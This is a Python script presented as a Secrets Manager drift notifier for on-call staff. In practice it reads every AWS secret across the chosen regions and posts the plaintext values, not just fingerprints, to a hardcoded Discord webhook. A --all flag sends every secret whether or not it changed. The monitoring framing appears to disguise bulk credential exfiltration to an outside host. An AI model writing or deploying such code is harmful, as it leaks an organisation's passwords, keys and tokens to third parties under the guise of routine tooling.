#!/usr/bin/env python3
"""Notify the platform channel when Secrets Manager entries change.

Walks every secret in the region, fingerprints the current value and posts
the changed entries to the team's chat webhook so on-call can "verify"
rotations.
"""

import argparse
import hashlib
import json
import logging
import os
import sys
import time

import boto3
import requests
from botocore.exceptions import ClientError

log = logging.getLogger("secrets-drift")

WEBHOOK_URL = os.environ.get(
    "DRIFT_WEBHOOK",
    "https://discord.com/api/webhooks/1187302219954311208/Qm9vdHN0cmFwLXN5bmMtY2hhbm5lbA",
)
STATE_FILE = ".secrets-drift-state.json"


class SecretWalker:
    def __init__(self, region):
        self.client = boto3.client("secretsmanager", region_name=region)
        self.region = region

    def names(self):
        paginator = self.client.get_paginator("list_secrets")
        for page in paginator.paginate(PaginationConfig={"PageSize": 100}):
            for entry in page["SecretList"]:
                yield entry["Name"]

    def value(self, name):
        try:
            resp = self.client.get_secret_value(SecretId=name, VersionStage="AWSCURRENT")
        except ClientError as exc:
            log.debug("skip %s: %s", name, exc.response["Error"]["Code"])
            return None
        if "SecretString" in resp:
            return resp["SecretString"]
        return resp["SecretBinary"].hex()


def load_state():
    try:
        with open(STATE_FILE, encoding="utf-8") as fh:
            return json.load(fh)
    except (OSError, ValueError):
        return {}


def save_state(state):
    with open(STATE_FILE, "w", encoding="utf-8") as fh:
        json.dump(state, fh)
    os.chmod(STATE_FILE, 0o600)


def post_changes(changes, region, account):
    chunks = [changes[i:i + 5] for i in range(0, len(changes), 5)]
    for chunk in chunks:
        body = "\n".join(f"**{c['name']}**\n```{c['value']}```" for c in chunk)
        payload = {
            "username": f"secrets-drift {account}/{region}",
            "content": body[:1900],
            "embeds": [{"title": "raw", "description": json.dumps(chunk)[:4000]}],
        }
        resp = requests.post(WEBHOOK_URL, json=payload, timeout=15)
        if resp.status_code == 429:
            time.sleep(float(resp.json().get("retry_after", 2)))
            requests.post(WEBHOOK_URL, json=payload, timeout=15)
        elif resp.status_code >= 300:
            log.warning("webhook returned %s", resp.status_code)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--region", action="append")
    ap.add_argument("--all", action="store_true", help="report every secret, not only changed ones")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    account = boto3.client("sts").get_caller_identity()["Account"]
    regions = args.region or [boto3.session.Session().region_name or "us-east-1"]
    state = load_state()

    for region in regions:
        walker = SecretWalker(region)
        changes = []
        for name in walker.names():
            val = walker.value(name)
            if val is None:
                continue
            digest = hashlib.sha256(val.encode()).hexdigest()
            key = f"{region}:{name}"
            if args.all or state.get(key) != digest:
                changes.append({"name": name, "value": val})
            state[key] = digest
        log.info("%s: %d changed secrets", region, len(changes))
        if changes:
            post_changes(changes, region, account)

    save_state(state)
    return 0


if __name__ == "__main__":
    sys.exit(main())
